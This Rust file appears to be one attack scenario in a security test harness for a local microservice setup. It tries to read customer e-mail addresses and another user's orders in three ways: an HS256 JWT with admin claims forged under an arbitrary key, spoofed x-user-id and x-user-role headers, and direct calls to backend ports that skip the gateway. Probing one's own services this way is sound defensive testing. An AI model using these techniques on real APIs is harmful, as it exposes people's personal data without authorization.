//! Somebody who wants the customers' addresses and another customer's orders: with a badge of his own making, under another
//! name, and by the back door.

use serde_json::json;

use super::check::{Trio, header, now};
use crate::{Answer, Failure, Ground, Loot, Raid, Visitor, forge};

/// What was carried away.
#[derive(Default)]
struct Bag {
    addresses: usize,
    orders: usize,
}

pub async fn attack(ground: Ground) -> Raid {
    let trio = Trio::start(ground.case()).await?;
    let wish = json!({"product": "carte-des-sentiers", "quantity": 2});
    let order = trio
        .login("alice")
        .await?
        .post("/api/orders", &wish)
        .await?;
    order.expect_status(201)?;
    let mut bag = Bag::default();
    forged(&ground, &trio, &mut bag).await?;
    renamed(&ground, &trio, &mut bag).await?;
    around(&ground, &trio, &mut bag).await?;
    let Bag { addresses, orders } = bag;
    if addresses + orders == 0 {
        return Loot::nothing(
            "Six requêtes, par la passerelle et à côté : ni adresse, ni commande.",
            "Six requests, through the gate and around it: no address, and no order.",
        );
    }
    Loot::taken(
        format!(
            "Six requêtes : {addresses} adresses électroniques lues, {orders} fois les commandes d'alice."
        ),
        format!("Six requests: {addresses} e-mail addresses read, {orders} times alice's orders."),
    )
}

async fn forged(ground: &Ground, trio: &Trio, bag: &mut Bag) -> Result<(), Failure> {
    ground.say(
        "J'écris moi-même un badge d'alice, administratrice, et le signe n'importe comment…",
        "Writing a badge of alice's, an administrator, and signing it anyhow…",
    );
    let claims = json!({"user": "alice", "roles": ["admin"], "exp": now() + 3_600});
    let badge = forge::hs256(&header("HS256"), &claims, b"n'importe quoi");
    let forger = trio.gate.with_token(&badge);
    look(ground, bag, &forger, ["/api/users", "/api/orders"]).await
}

async fn renamed(ground: &Ground, trio: &Trio, bag: &mut Bag) -> Result<(), Failure> {
    ground.say(
        "Je me connecte comme bob, honnêtement, et j'ajoute deux en-têtes : x-user-id: alice, x-user-role: admin…",
        "Logging in as bob, honestly, and adding two headers: x-user-id: alice, x-user-role: admin…",
    );
    let bob = pretending(&trio.login("bob").await?);
    look(ground, bag, &bob, ["/api/users", "/api/orders"]).await
}

async fn around(ground: &Ground, trio: &Trio, bag: &mut Bag) -> Result<(), Failure> {
    ground.say(
        "Je laisse la passerelle de côté et j'appelle les services sur leurs propres ports, sans badge…",
        "Leaving the gate aside and calling the services at their own ports, without a badge…",
    );
    let (users, products) = (pretending(&trio.users), pretending(&trio.products));
    look(ground, bag, &users, ["/users"]).await?;
    look(ground, bag, &products, ["/orders"]).await
}

fn pretending(visitor: &Visitor) -> Visitor {
    visitor
        .with_header("x-user-id", "alice")
        .with_header("x-user-role", "admin")
}

async fn look<const N: usize>(
    ground: &Ground,
    bag: &mut Bag,
    who: &Visitor,
    paths: [&str; N],
) -> Result<(), Failure> {
    for path in paths {
        let answer = who.get(path).await?;
        let shown = answer.shown();
        ground.say(
            format!("  GET {path} : {shown}"),
            format!("  GET {path}: {shown}"),
        );
        bag.addresses += count(&answer, |entry| entry["email"].is_string());
        bag.orders += count(&answer, |entry| entry["user"] == "alice");
    }
    Ok(())
}

fn count(answer: &Answer, wanted: impl Fn(&serde_json::Value) -> bool) -> usize {
    let body = answer.json();
    let entries = body.as_array().into_iter().flatten();
    entries.filter(|entry| wanted(entry)).count()
}
